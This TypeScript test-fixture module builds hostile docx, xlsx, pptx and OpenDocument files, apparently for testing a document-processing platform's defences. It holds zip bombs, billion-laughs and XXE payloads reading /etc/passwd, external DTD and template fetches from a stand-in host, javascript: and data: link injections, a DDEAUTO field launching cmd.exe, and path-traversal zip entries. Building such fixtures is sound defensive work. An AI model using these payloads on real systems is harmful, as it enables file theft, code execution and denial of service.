import { deflateRawSync } from 'node:zlib'
import { zipOf } from '#platform/documents/testing/samples.ts'
import type { HostileFile } from './hostile-file.ts'

/** Office documents, which are zips of XML: those that unpack to far more than they are, and those whose XML is not what it seems. */
const parts = {
  docx: 'word/document.xml',
  xlsx: 'xl/sharedStrings.xml',
  pptx: 'ppt/slides/slide1.xml',
  odt: 'content.xml',
  ods: 'content.xml',
  odp: 'content.xml',
}
type Kind = keyof typeof parts
const kinds = Object.keys(parts) as Kind[]
const open = 'application/vnd.openxmlformats-officedocument'
const mediaTypes: Record<Kind, string> = {
  docx: `${open}.wordprocessingml.document`,
  xlsx: `${open}.spreadsheetml.sheet`,
  pptx: `${open}.presentationml.presentation`,
  odt: 'application/vnd.oasis.opendocument.text',
  ods: 'application/vnd.oasis.opendocument.spreadsheet',
  odp: 'application/vnd.oasis.opendocument.presentation',
}
const megabyte = 1024 * 1024

/** The part under a name of its own, so that each is read. */
const partName = (kind: Kind, n: number) =>
  ({ docx: `word/header${n}.xml`, xlsx: `xl/worksheets/sheet${n}.xml`, pptx: `ppt/slides/slide${n}.xml` })[
    kind as string
  ] ?? `${n}/content.xml`

const bombs: Record<string, (kind: Kind) => Promise<Buffer> | Buffer> = {
  'one part of 30 MB of nothing': kind => zipOf({ [parts[kind]]: Buffer.alloc(30 * megabyte) }),
  'one part of 60 MB of text': kind =>
    zipOf({ [parts[kind]]: Buffer.alloc(60 * megabyte, '<w:t>aaaa</w:t>') }),
  'a hundred parts of 1 MB': kind => {
    const part = Buffer.alloc(megabyte - 1, '<t>aa</t>')
    return zipOf(Object.fromEntries(Array.from({ length: 100 }, (_, n) => [partName(kind, n + 1), part])))
  },
  'a part that says it is small': async kind => {
    const zip = await zipOf({ [parts[kind]]: Buffer.alloc(20 * megabyte, '<w:t>b</w:t>') })
    return withSizes(zip, 100)
  },
  'a part that says it is 4 GB': async kind => withSizes(await zipOf({ [parts[kind]]: 'x' }), 0xffff_fff0),
  'a zip in a zip in a zip': async kind => {
    let inner = await zipOf({ [parts[kind]]: Buffer.alloc(5 * megabyte) })
    for (let depth = 0; depth < 6; depth++) inner = await zipOf({ [parts[kind]]: inner })
    return inner
  },
}

/** Every entry says that it unpacks to so many bytes. */
function withSizes(zip: Buffer, bytes: number): Buffer {
  for (let at = zip.indexOf('PK\u0001\u0002'); at >= 0; at = zip.indexOf('PK\u0001\u0002', at + 4))
    zip.writeUInt32LE(bytes, at + 24)
  return zip
}

const bombFiles = kinds.flatMap(kind =>
  Object.entries(bombs).map(
    ([what, build]): HostileFile => ({
      what: `${kind}: ${what}`,
      name: `bom.${kind}`,
      mediaType: mediaTypes[kind],
      build: () => build(kind),
    }),
  ),
)

const laughs = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('')
const xmls: Record<string, () => string> = {
  'entities of entities': () => `<!DOCTYPE d [<!ENTITY l0 "ha">${laughs}]><d><w:t>&l9;</w:t></d>`,
  'an entity of a file of the server': () =>
    '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d><w:t>&x;</w:t></d>',
  'a document type of another host': () =>
    '<!DOCTYPE d SYSTEM "https://hostile.invalid/x.dtd" [<!ENTITY % p SYSTEM "https://hostile.invalid/p"> %p;]><d/>',
  '200,000 elements in each other': () => `${'<w:t>'.repeat(200_000)}x`,
  'a tag that does not end': () => `<d a="${'x'.repeat(2 * megabyte)}`,
  'a comment that does not end': () => `<d><!--${'-'.repeat(megabyte)}<![CDATA[`,
}
const xmlFiles = (['docx', 'odt', 'xlsx'] as const).flatMap(kind =>
  Object.entries(xmls).map(
    ([what, build]): HostileFile => ({
      what: `${kind}: ${what}`,
      name: `xml.${kind}`,
      mediaType: mediaTypes[kind],
      build: () => zipOf({ [parts[kind]]: build() }),
    }),
  ),
)

const relationships = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const relationshipsTo = (type: string, target: string) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${relationships}/${type}" Target="${target}" TargetMode="External"/></Relationships>`
const paragraph = (inner: string) =>
  `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${relationships}"><w:body><w:p>${inner}</w:p></w:body></w:document>`
const linkTo = (target: string) => ({
  'word/_rels/document.xml.rels': relationshipsTo('hyperlink', target),
  'word/document.xml': paragraph('<w:hyperlink r:id="r1"><w:r><w:t>mở</w:t></w:r></w:hyperlink>'),
})
const documents: Record<string, Record<string, string | Buffer>> = {
  'a link that is a script': linkTo('javascript:alert(document.domain)'),
  'a link that is a script behind a tab': linkTo('java&#9;script:alert(1)'),
  'a link that is a page': linkTo('data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;'),
  'a link to a file of the reader': linkTo('file:///etc/passwd'),
  'a template of another host': {
    'word/_rels/settings.xml.rels': relationshipsTo('attachedTemplate', 'https://hostile.invalid/x.dotm'),
    'word/document.xml': paragraph('<w:r><w:t>mẫu</w:t></w:r>'),
  },
  'a field that runs a program': {
    'word/document.xml': paragraph(
      '<w:r><w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r>',
    ),
  },
  'a page in it': {
    'word/_rels/document.xml.rels': relationshipsTo('aFChunk', 'page.html'),
    'word/page.html': '<script>alert(1)</script>',
    'word/document.xml': paragraph('<w:altChunk r:id="r1"/>'),
  },
  macros: {
    'word/vbaProject.bin': Buffer.alloc(2_000, 'd0cf11e0a1b11ae1', 'hex'),
    'word/document.xml': paragraph(''),
  },
  'parts that leave the folder': { 'a/../../../../etc/x': 'x', '.././word/document.xml': 'x' },
}

/** yazl refuses such names itself, so these are written by hand: what is stored, and its directory. */
function zipByHand(entries: Record<string, string | Buffer>): Buffer {
  const files: Buffer[] = []
  const directory: Buffer[] = []
  let offset = 0
  for (const [name, content] of Object.entries(entries)) {
    const data = deflateRawSync(content)
    const nameBytes = Buffer.from(name)
    const fields = Buffer.alloc(26)
    fields.writeUInt16LE(20, 0)
    fields.writeUInt16LE(8, 4)
    fields.writeUInt32LE(data.length, 14)
    fields.writeUInt32LE(Buffer.byteLength(content), 18)
    fields.writeUInt16LE(nameBytes.length, 22)
    const file = Buffer.concat([Buffer.from('PK\u0003\u0004'), fields, nameBytes, data])
    const place = Buffer.alloc(14)
    place.writeUInt32LE(offset, 10)
    directory.push(Buffer.from('PK\u0001\u0002\u0014\u0000'), fields, place, nameBytes)
    files.push(file)
    offset += file.length
  }
  const listing = Buffer.concat(directory)
  const end = Buffer.alloc(18)
  end.writeUInt16LE(files.length, 4)
  end.writeUInt16LE(files.length, 6)
  end.writeUInt32LE(listing.length, 8)
  end.writeUInt32LE(offset, 12)
  return Buffer.concat([...files, listing, Buffer.from('PK\u0005\u0006'), end])
}

const documentFiles = Object.entries(documents).map(
  ([what, entries]): HostileFile => ({
    what: `docx: ${what}`,
    name: 'thư.docx',
    mediaType: mediaTypes.docx,
    build: () => zipByHand(entries),
  }),
)

export const packageFiles: readonly HostileFile[] = [...bombFiles, ...xmlFiles, ...documentFiles]
